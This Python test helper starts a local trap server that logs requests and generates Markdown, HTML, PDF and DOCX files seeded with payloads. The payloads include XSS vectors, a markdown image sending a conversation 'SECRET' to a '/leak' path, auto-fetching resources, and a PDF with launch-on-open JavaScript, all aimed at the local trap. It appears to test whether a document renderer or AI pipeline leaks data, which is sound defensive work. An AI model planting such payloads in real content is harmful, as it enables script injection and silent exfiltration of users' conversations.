"""Documents that try to act, a server that counts who they reach, and a small PDF writer. Knows no page and no test."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path


@dataclass(slots=True)
class Trap:
    """A server that nobody should ever reach."""

    port: int
    reached: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def trap() -> Iterator[Trap]:
    """Listens on a free port, on all names of this machine; notes every request."""
    found = Trap(0)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.reached.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"<title>trapped</title>")

        do_POST = do_HEAD = do_OPTIONS = do_PUT = do_GET

        def log_message(self, *_: object) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found.port = server.server_port
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield found
        finally:
            server.shutdown()
            thread.join()


def payloads(to: str) -> list[str]:
    """Markdown that loads or leads to `to`, in every way that the page's parser might know."""
    return [
        f"![inline]({to}/inline.png)",
        f"![all you said]({to}/leak?conversation=SECRET)",
        f"![reference][pic]\n\n[pic]: {to}/reference.png",
        f"[link]({to}/link)",
        f"[reference link][there]\n\n[there]: {to}/reference",
        f"<{to}/autolink>",
        f"{to}/bare",
        f'<img src="{to}/html.png" onerror="alert(1)">',
        f"<script>fetch('{to}/script')</script>",
        f'<iframe src="{to}/frame"></iframe><link rel="prefetch" href="{to}/prefetch"><link rel="preconnect" href="{to}">',
        f'<div style="background:url({to}/css.png)">styled</div>',
        f'<video src="{to}/video.mp4" autoplay></video> ![film]({to}/film.mp4)',
        f"[![linked]({to}/linked.png)]({to}/linked)",
        f"![protocol]({to.removeprefix('http:')}/protocol.png)",
        "[run](javascript:alert(1)) [page](data:text/html,<script>alert(1)</script>)",
        f"$\\href{{{to}/katex}}{{formula}}$ $$\\includegraphics{{{to}/katex.png}}$$",
        f'```mermaid\ngraph TD; A-->B; click A "{to}/mermaid"\n```',
        f"<div>\n```\n\n![hidden]({to}/hidden.png)\n\n```",
        f":::note\n```\n:::\n\n![directive]({to}/directive.png)\n\n```\nend\n```",
        f"&#104;ttp{to.removeprefix('http')}/entity www.trap.example/bare",
        f'<form action="{to}/form"><input autofocus onfocus=alert(1)></form><base href="{to}/">',
        f'<meta http-equiv="refresh" content="0;url={to}/refresh"> <object data="{to}/object"></object>',
    ]


def pdf(pages: Sequence[Sequence[str]], links: Sequence[str] = (), script: str = "") -> bytes:
    """A PDF with a page for each list of lines, a link annotation for each address, and a script that runs when it is opened."""
    objects: list[bytes] = [b"", b"", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"]
    spots = [
        f"<< /Type /Annot /Subtype /Link /Rect [60 {560 - 60 * at} 540 {610 - 60 * at}] /A << /S /URI /URI ({link}) >> >>"
        for at, link in enumerate(links)
    ]
    kids: list[int] = []
    for lines in pages:
        escaped = [line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") for line in lines]
        stream = f"BT /F1 12 Tf 72 740 Td 16 TL\n{''.join(f'({line}) Tj T* ' for line in escaped)}\nET".encode("cp1252")
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
        resources = f"/Resources << /Font << /F1 3 0 R >> >> /Contents {len(objects)} 0 R /Annots [{' '.join(spots)}]"
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {resources} >>".encode())
        kids.append(len(objects))
    action = f" /OpenAction << /S /JavaScript /JS ({script}) >>" if script else ""
    objects[0] = f"<< /Type /Catalog /Pages 2 0 R{action} >>".encode()
    objects[1] = f"<< /Type /Pages /Count {len(kids)} /Kids [{' '.join(f'{kid} 0 R' for kid in kids)}] >>".encode()
    out, starts = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = "".join(f"{start:010d} 00000 n \n" for start in starts)
    trailer = f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(out)}\n%%EOF\n"
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}{trailer}"
    return out + end.encode()


def documents(folder: Path, to: str) -> list[Path]:
    """The same payloads as Markdown, HTML, PDF and DOCX, about a thing that one can ask for."""
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE

    told = "The Kestrel engine is serviced every 300 hours of flight."
    lines = payloads(to)
    (folder / "kestrel.md").write_text(f"# Kestrel manual\n\n{told}\n\n" + "\n\n".join(lines), encoding="utf-8")
    body = f"<p>{told} An owner calls the depot.</p><script>location='{to}/html-script'</script>" + "".join(lines)
    (folder / "owner.html").write_text(f"<html><head><title>Owner</title></head><body>{body}</body></html>", encoding="utf-8")
    printed = [told, "The pilot signs the service book.", *(line.replace("\n", " ")[:90] for line in lines)]
    (folder / "service.pdf").write_bytes(pdf([printed], [f"{to}/pdf-link", "javascript:alert(1)"], f"app.launchURL('{to}/pdf-script')"))
    letter = Document()
    letter.add_paragraph(f"{told} The workshop keeps a Kestrel engine in stock.")
    for line in lines:
        letter.add_paragraph(line)
    letter.part.relate_to(f"{to}/docx.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    letter.save(str(folder / "letter.docx"))
    return [folder / name for name in ("kestrel.md", "owner.html", "service.pdf", "letter.docx")]
